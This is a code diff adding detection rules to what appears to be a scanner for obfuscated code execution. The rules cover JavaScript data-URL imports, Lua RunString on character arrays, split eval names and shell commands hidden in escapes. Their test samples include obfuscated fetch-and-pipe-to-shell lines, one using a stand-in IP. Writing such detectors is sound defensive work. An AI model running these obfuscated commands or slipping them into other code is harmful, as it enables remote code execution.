@@ -25,6 +25,16 @@ import {
 
 const id = (name: string): string => `decoded-exec.${name}`
 
+/** What comes is given to a shell, or to a name that stands for one. */
+const intoShell = is(
+  ['| $', '|$', '| sh', '|sh', '| bash', '|bash'],
+  /\|\s?(?:\$\{?_?\w{1,20}\}?|(?:ba)?sh)\s?(?:&|\n|$)/,
+  {
+    families: ['sh'],
+    after: 40,
+  },
+)
+
 export const decodedExec: RuleSet = {
   category: 'decoded-exec',
   rules: [
@@ -395,6 +405,95 @@ export const decodedExec: RuleSet = {
         py("exec(''.join(chr(c - 3) for c in data))"),
       ],
       misses: [py("key = lambda item: item.name\nresult = ''.join(chr(c) for c in data)")],
+    },
+    {
+      id: id('data-module'),
+      severity: 'high',
+      why: 'Imports a module that is a piece of encoded text.',
+      when: is(
+        ['import('],
+        /\bimport\(\s*["'`]data:(?:text|application)\/javascript[^,"'`]{0,30},["'`]?\s*(?:\+|\$\{|[A-Za-z0-9+/=]{80})/,
+        {
+          families: ['js'],
+          after: 240,
+        },
+      ),
+      matches: [js("await import('data:text/javascript;base64,' + chunk)")],
+      misses: [js("await import('data:text/javascript,export default 1')"), js("await import('./robots.mjs')")],
+    },
+    {
+      id: id('lua-characters'),
+      severity: 'critical',
+      why: 'Puts code together from numbers, character by character, and runs it.',
+      when: near(
+        4,
+        is(
+          ['runstring(', 'loadstring(', 'load)(', 'load('],
+          /(?:RunString(?:Ex)?|loadstring|\(loadstring or load\)|(?<![\w.:])load)\)?\(\s*\w{1,20}\(\s*\{\s*(?:\d{1,3}\s*,\s*){8}/,
+          { families: ['lua'], after: 120 },
+        ),
+        is(['string.char('], null, { families: ['lua'] }),
+      ),
+      matches: [
+        lua(
+          'local function d(t) local s = "" for _, c in ipairs(t) do s = s .. string.char(c - 7) end return s end\nRunString(d({ 111,123,123,119,53,77,108,123,106 }))',
+        ),
+      ],
+      misses: [lua('local text = string.char(72, 105)\nprint(load("return 1")())')],
+    },
+    {
+      id: id('lua-remote'),
+      severity: 'critical',
+      why: 'Runs code that a player or a server sends, decoded first.',
+      when: is(
+        ['runstring(', 'loadstring(', 'compilestring('],
+        /(?:RunString(?:Ex)?|loadstring|CompileString)\(\s*(?:util\.(?:Base64Decode|Decompress)|net\.Read\w{1,12}|b64decode|decode)\(/,
+        { families: ['lua'], after: 80 },
+      ),
+      matches: [lua('RunString(util.Base64Decode(code), "anticheat", false)')],
+      misses: [lua('local text = util.Base64Decode(code)\nprint(text)')],
+    },
+    {
+      id: id('split-eval'),
+      severity: 'critical',
+      why: 'Spells the name of eval in pieces and gives it text made of numbers.',
+      when: near(
+        2,
+        is(
+          ['window[', 'globalthis[', 'self[', 'global['],
+          /(?:window|globalThis|self|global)\[\s*["'](?:e["']?\s*\+\s*["']?val|ev["']\s*\+\s*["']al|eva["']\s*\+\s*["']l|Func["']\s*\+\s*["']tion)["']\s*\]/,
+          {
+            families: ['js', 'html'],
+          },
+        ),
+        is(['fromcharcode', 'atob('], null, { families: ['js', 'html'] }),
+      ),
+      matches: [js("(0, window['ev' + 'al'])(c.map(function (n) { return String.fromCharCode(n); }).join(''))")],
+      misses: [js("window['ev' + 'ent'] = String.fromCharCode(65)")],
+    },
+    {
+      id: id('shell-spelled'),
+      severity: 'critical',
+      why: 'Spells a command in escapes or backwards, and runs it.',
+      when: any(
+        near(
+          5,
+          is(['printf '], /printf\s+["'](?:\\x[0-9a-f]{2}|\\[0-7]{3}){12}/i, { families: ['sh'], after: 80 }),
+          intoShell,
+        ),
+        is(
+          ['base64 '],
+          /base64\s+(?:-d|-D|--decode)\b[^\n|]{0,400}\|\s*\$\(\s*(?:echo|printf)\s+[^)\n|]{1,20}\|\s*(?:rev|tr)\b/,
+          { families: ['sh'], after: 480 },
+        ),
+        near(1, is(['${ifs}'], /\$\{IFS\}\S{0,30}https?:\/\//, { families: ['sh'], after: 60 }), intoShell),
+      ),
+      matches: [
+        sh('base64 --decode <<< "bm9odXAgc2ggLWMgJ3dnZXQgLXFPLSBodHRwOi8v" | $(echo hs | rev)'),
+        sh(`_x=$(printf '${'\\x63'.repeat(14)}')\n_y=$(printf 'sh')\n$_x | $_y &`),
+        sh('X=$' + '{b}$' + '{IFS}-s$' + '{IFS}http://192.0.2.1/d;($' + '{X})2>/dev/null|$' + '{c}&'),
+      ],
+      misses: [sh('base64 --decode <<< "$CERTIFICATE" > cert.pem'), sh("printf '\\x1b[31m%s\\n' error")],
     },
   ],
 }
